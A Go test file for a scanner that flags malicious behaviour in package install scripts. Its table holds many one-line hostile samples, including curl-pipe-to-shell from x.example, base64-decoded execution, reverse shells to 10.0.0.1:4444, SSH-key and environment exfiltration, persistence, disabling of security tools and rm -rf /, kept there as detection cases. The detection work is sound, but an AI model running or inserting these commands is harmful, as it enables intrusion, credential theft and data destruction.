package content

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"assize.dev/services/scan/internal/testdata"
	"assize.dev/shared/event"
)

// did judges text as a script of a package and lists what it is found to do.
func did(format, text string) (ids []string, all []event.Finding) {
	f := findings{format: format, count: map[string]int{}}
	f.judgeScript(script{location: "x", text: []byte(text)}, "it")
	for _, x := range f.list {
		ids = append(ids, strings.TrimPrefix(x.ID, "content/")+" "+string(x.Severity))
	}
	slices.Sort(ids)
	return ids, f.list
}

// TestBehaviours has for each behaviour code that does it in several
// languages, and code that only looks like it.
func TestBehaviours(t *testing.T) {
	const (
		npm    = formatNPM
		system = formatDeb
	)
	payload := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("payload ", 12)))
	for _, test := range []struct {
		name, format, text string
		want               string // joined with commas
	}{
		{"curl into sh", npm, "curl -fsSL https://x.example/i.sh | sudo -E bash -s -- -y", "pipe-to-shell high"},
		{"curl into sh over two lines", npm, "wget -qO- https://x.example/i \\\n  | sh", "pipe-to-shell high"},
		{"curl behind a long line", npm, "x \\\n y\ncurl https://x.example/i | sh", "pipe-to-shell high"},
		{"sh of curl", npm, `sh -c "$(curl -fsSL https://x.example/i)"`, "pipe-to-shell high"},
		{"process substitution", npm, "bash <(curl -s https://x.example/i)", "pipe-to-shell high"},
		{"PowerShell", npm, "IEX (New-Object Net.WebClient).DownloadString('https://x.example/i')", "pipe-to-shell high"},
		{"Python", npm, "import urllib.request\nexec(urllib.request.urlopen('https://x.example/i').read())", "pipe-to-shell high"},
		{"as root of a system", system, "curl https://x.example/i | sh", "pipe-to-shell high"},
		{"in a comment", npm, "# curl https://x.example/i | sh\n", ""},
		{"in what is a comment elsewhere", npm, "//bin/true; curl https://x.example/i | sh\n", "pipe-to-shell high"},
		{"into a filter", npm, "curl https://x.example/i | shasum -a 256", "network low"},

		{"base64 into sh", npm, "echo " + payload + " | base64 -d | sh", "decoded-code high"},
		{"eval of base64", npm, `eval "$(echo ` + payload + ` | base64 --decode)"`, "decoded-code high"},
		{"hexadecimal into sh", npm, "echo 6563686f | xxd -r -p | bash", "decoded-code high"},
		{"exec of base64", npm, "import base64\nexec(base64.b64decode('" + payload + "'))", "decoded-code high"},
		{"exec of marshal", npm, "exec(__import__('marshal').loads(data))", "decoded-code high"},
		{"eval of a buffer", npm, "eval(Buffer.from('" + payload + "', 'base64').toString())", "decoded-code high"},
		{"eval of atob", npm, "new Function(atob('" + payload + "'))()", "decoded-code high"},
		{"encoded command", npm, "powershell -nop -w hidden -enc " + payload, "decoded-code high"},
		{"base64 into a file", npm, "echo " + payload + " | base64 -d > logo.png", ""},
		{"decoding without running", npm, "const logo = Buffer.from('" + payload + "', 'base64')", ""},

		{"renamed identifiers", npm, strings.Repeat("var _0x3f2a=_0x1b2c(0x1);", 12), "obfuscated high"},
		{"one such identifier", npm, "var _0x3f2a = 1", ""},
		{"character codes", npm, "String.fromCharCode(" + strings.Repeat("101,", 20) + "1)", "obfuscated high"},
		{"two character codes", npm, "String.fromCharCode(13, 10)", ""},
		{"escaped text", npm, `s = "` + strings.Repeat(`\x65`, 50) + `"`, "obfuscated high"},
		{"an escaped colour", npm, `s = "\x1b\x5b\x33\x31\x6d"`, ""},
		{"packed", npm, "eval(function(p,a,c,k,e,d){return p}('x'))", "obfuscated high"},

		{"bash to a socket", npm, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell critical"},
		{"netcat", npm, "nc 10.0.0.1 4444 -e /bin/sh", "reverse-shell critical"},
		{"Python to a socket", npm, "s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])", "reverse-shell critical"},
		{"dup2 of a file", npm, "os.dup2(log.fileno(), 1)", ""},
		{"netcat that only looks", npm, "nc -z localhost 5432", "network low"},

		{"key sent", npm, "curl -d @$HOME/.ssh/id_rsa https://x.example/", "sends-credentials high"},
		{"environment sent", npm, "const d = JSON.stringify(process.env)\nhttps.request(o, cb).end(d)", "sends-credentials high"},
		{"environment sent by Python", npm, "requests.post(u, data=json.dumps(dict(os.environ)))", "sends-credentials high"},
		{"environment piped", npm, "env | curl -d @- https://x.example/", "sends-credentials high"},
		{"cloud credentials", npm, "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "sends-credentials high"},
		{"key read", npm, "cat ~/.aws/credentials", "reads-credentials medium"},
		{"key read in a system", system, "cat /etc/shadow", "reads-credentials low"},
		{"settings of npm", npm, "fs.readFileSync(os.homedir() + '/.npmrc')", "reads-credentials medium"},
		{"one variable", npm, "https.get(process.env.npm_config_mirror)", "network low"},
		{"who runs", npm, "https.request(u).end(os.hostname() + os.userInfo().username)", "sends-identity medium"},
		{"who runs, kept", npm, "console.log(os.hostname())", ""},
		{"collector", npm, "fetch('https://abc.oast.fun/')", "collector high"},
		{"whoami in a name", npm, "nslookup $(whoami).x.example", "collector high"},
		{"whoami alone", npm, `[ "$(whoami)" = root ] || exit 1`, ""},

		{"cron", npm, `(crontab -l; echo "@reboot x") | crontab -`, "persistence high"},
		{"cron of a system", system, "cp x /etc/cron.d/x", "persistence info"},
		{"cron named", npm, "if [ -d /etc/cron.d ]; then :; fi", "system-paths medium"},
		{"unit", npm, "cp x.service ~/.config/systemd/user/ && systemctl --user enable x", "persistence high"},
		{"launch agent", npm, "fs.writeFileSync(home + '/Library/LaunchAgents/x.plist', s)", "persistence high"},
		{"preload", system, "echo /x.so > /etc/ld.so.preload", "persistence info"},
		{"shell start", npm, "echo 'x' >> ~/.bashrc", "startup-files high"},
		{"shell start of Node", npm, "fs.appendFileSync(path.join(home, '.zshrc'), s)", "startup-files high"},
		{"shell start read", npm, "grep -q x ~/.bashrc", ""},
		{"login key", npm, "cat k >> ~/.ssh/authorized_keys", "login-keys high"},
		{"account", npm, "sudo useradd -m x", "accounts high"},
		{"account of a system", system, "adduser --system --group x", "accounts info"},
		{"account written", system, "echo x:0:0 >> /etc/passwd", "privileges medium"},
		{"sudoers", npm, "echo 'x ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/x", "privileges high"},
		{"trusted key", npm, "wget -qO- https://x.example/k | apt-key add -", "trust-anchors high"},
		{"certificates as usual", system, "update-ca-certificates", ""},
		{"SELinux", system, "setenforce 0", "protection high"},
		{"Defender", npm, "Add-MpPreference -ExclusionPath C:\\", "protection high"},
		{"history", npm, "unset HISTFILE; history -c", "protection high"},
		{"no check", npm, "process.env.NODE_TLS_REJECT_UNAUTHORIZED = 0", "no-tls-check medium"},
		{"no check by curl", npm, "curl -sk https://x.example/", "no-tls-check medium"},
		{"check as usual", npm, "curl --silent --create-dirs https://x.example/", "network low"},
		{"everything", npm, "rm -rf --no-preserve-root /", "destruction high"},
		{"home", npm, "rm -rf ~/", "destruction high"},
		{"disk", npm, "dd if=/dev/zero of=/dev/sda", "destruction high"},
		{"its own", npm, "rm -rf dist node_modules /tmp/x", ""},
		{"its own of a system", system, "rm -rf /var/lib/x /etc/x", ""},
		{"miner", npm, "./m -o stratum+tcp://pool.example:3333", "mining high"},
		{"setuid", npm, "chmod u+s /tmp/sh", "sets-setid high"},
		{"setuid of a system", system, "chmod 4755 /usr/bin/x", "sets-setid low"},
		{"mode as usual", npm, "chmod 0755 bin/x && chmod 644 y", ""},
		{"download and run", npm, "curl -L -o bin/x https://x.example/x\nchmod +x bin/x", "download-run medium"},
		{"commands as usual", npm, "node-gyp rebuild || echo 'built without the addon'", ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			ids, _ := did(test.format, test.text)
			// What else it does beside is not the point of a row.
			if got := strings.Join(ids, ","); test.want == "" && got != "" || test.want != "" && !slices.Contains(ids, test.want) {
				t.Errorf("%q, want %q", got, test.want)
			}
		})
	}
}

func TestEveryBehaviourHasARow(t *testing.T) {
	for _, b := range behaviours {
		if !slices.Contains(rules, b.rule) {
			t.Errorf("%s is not in the table", b.rule.id)
		}
		for _, s := range b.needs {
			if !slices.Contains(signals, s) {
				t.Errorf("%s needs a signal that the digest leaves out", b.rule.id)
			}
		}
	}
}

func TestCommentsOfJavaScript(t *testing.T) {
	for text, want := range map[string]int{"// curl x | sh\n": 0, "class A { \n #x = `curl x | sh`\n}": 1} {
		f := findings{format: formatNPM, count: map[string]int{}}
		f.judgeScript(script{location: "package/a.js", text: []byte(text)}, "it")
		if len(f.list) != want {
			t.Errorf("%q: %+v", text, f.list)
		}
	}
}

func TestScriptInUTF16(t *testing.T) {
	b := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune("Set-MpPreference -DisableRealtimeMonitoring $true")) {
		b = append(b, byte(u), byte(u>>8))
	}
	s, err := readScript("tools/install.ps1", strings.NewReader(string(b)))
	if ids, _ := did(formatNupkg, string(s.text)); err != nil || !slices.Equal(ids, []string{"protection high"}) {
		t.Errorf("%q, %v", ids, err)
	}
}

// TestExcerpt wants the line and a bounded quote that shows what the code
// does and hides what could be a secret, wherever it stands.
func TestExcerpt(t *testing.T) {
	secret := "Sq7" + strings.Repeat("x9Tz", 8)
	short := "hunt" + "er2"
	for _, text := range []string{
		"curl -H 'Authorization: Bearer " + secret + "' https://x.example/i | sh",
		"curl -u admin:" + short + " https://x.example/i | sh",
		"curl https://admin:" + short + "@x.example/i | sh",
		"curl 'https://x.example/i?token=" + short + "' | sh",
		"TOKEN=" + short + " curl https://x.example/i | sh",
		"export PASSWORD=\"" + short + "\"; curl https://x.example/i | sh",
		"curl https://x.example/" + secret + " | sh",
		"curl -d " + secret + " https://discord.com/api/webhooks/1/" + short + " | sh",
		"x" + secret + ";curl https://x.example/i | sh",
	} {
		ids, all := did(formatNPM, "\n\n"+text+"\n")
		if len(ids) == 0 {
			t.Errorf("%q: nothing found", text)
		}
		for _, f := range all {
			if strings.Contains(f.Message, secret[8:16]) || strings.Contains(f.Message, short) {
				t.Errorf("%s tells the secret: %s", f.ID, f.Message)
			}
			if f.Line != 3 || !strings.Contains(f.Message, "curl") || strings.ContainsAny(f.Message, "\n\x1b") || len(f.Message) > 600 {
				t.Errorf("line %d: %s", f.Line, f.Message)
			}
		}
	}
}

func TestScriptLimits(t *testing.T) {
	long := script{location: "x", text: []byte("curl https://x.example/i | sh"), cut: true}
	f := findings{count: map[string]int{}}
	f.judgeScript(long, "it")
	if len(f.list) == 0 || !strings.Contains(f.reason(), "only the first") {
		t.Errorf("%d findings, %q", len(f.list), f.reason())
	}
	f = findings{count: map[string]int{}, judged: maxJudged}
	f.judgeScript(long, "it")
	if len(f.list) > 0 || !strings.Contains(f.reason(), "not examined") {
		t.Errorf("%d findings, %q", len(f.list), f.reason())
	}
	s, err := readScript("x", strings.NewReader(strings.Repeat("x", maxScript+1)))
	if err != nil || !s.cut || len(s.text) != maxScript {
		t.Errorf("%d bytes, cut %v, %v", len(s.text), s.cut, err)
	}
	f = findings{count: map[string]int{}}
	if !testdata.Race { // under which a megabyte of patterns takes a minute
		text := strings.Repeat("# curl x | sh\n", maxTried/10) + "curl x | sh"
		f.judgeScript(script{location: "x", text: []byte(text)}, "it")
		if !strings.Contains(f.reason(), "more places") {
			t.Errorf("%d findings, %q", len(f.list), f.reason())
		}
	}
	for i := range maxNotSeen + 5 {
		f.unseen("why " + itoa(i))
	}
	if r := f.reason(); !strings.HasSuffix(r, "more") {
		t.Errorf("reason %q", r)
	}
}

func FuzzBehaviours(f *testing.F) {
	f.Add([]byte("curl x | sh\n# comment\nrm -rf /\n\\\nchmod +x y"))
	f.Add([]byte("eval(Buffer.from('eA==','base64'))"))
	f.Add([]byte("\xff\xfec\x00u\x00"))
	f.Fuzz(func(t *testing.T, text []byte) {
		s, err := readScript("x", strings.NewReader(string(text)))
		if err != nil {
			t.Fatal(err)
		}
		found := findings{count: map[string]int{}}
		found.judgeScript(s, "it")
		lines := strings.Count(string(s.text), "\n") + 1
		for _, x := range found.list {
			if x.Line < 1 || x.Line > lines || strings.ContainsAny(x.Message, "\n\x00\x1b") {
				t.Errorf("line %d of %d: %q", x.Line, lines, x.Message)
			}
		}
		// The parts near words are in order, apart, and miss none.
		words := []string{"rm ", "curl", "e"}
		parts := around(words, lowered(s.text))
		for i, p := range parts {
			if p.start < 0 || p.end > len(s.text) || p.start >= p.end || i > 0 && p.start <= parts[i-1].end {
				t.Errorf("parts %v", parts)
			}
		}
		for _, w := range words {
			at := strings.LastIndex(string(lowered(s.text)), w)
			if at >= 0 && !slices.ContainsFunc(parts, func(p hit) bool { return p.start <= at && at+len(w) <= p.end }) {
				t.Errorf("%q at %d is in none of %v", w, at, parts)
			}
		}
		for _, name := range filesIn(string(text)) {
			if strings.HasPrefix(name, "/") {
				t.Errorf("%q is no file of the package", name)
			}
		}
	})
}
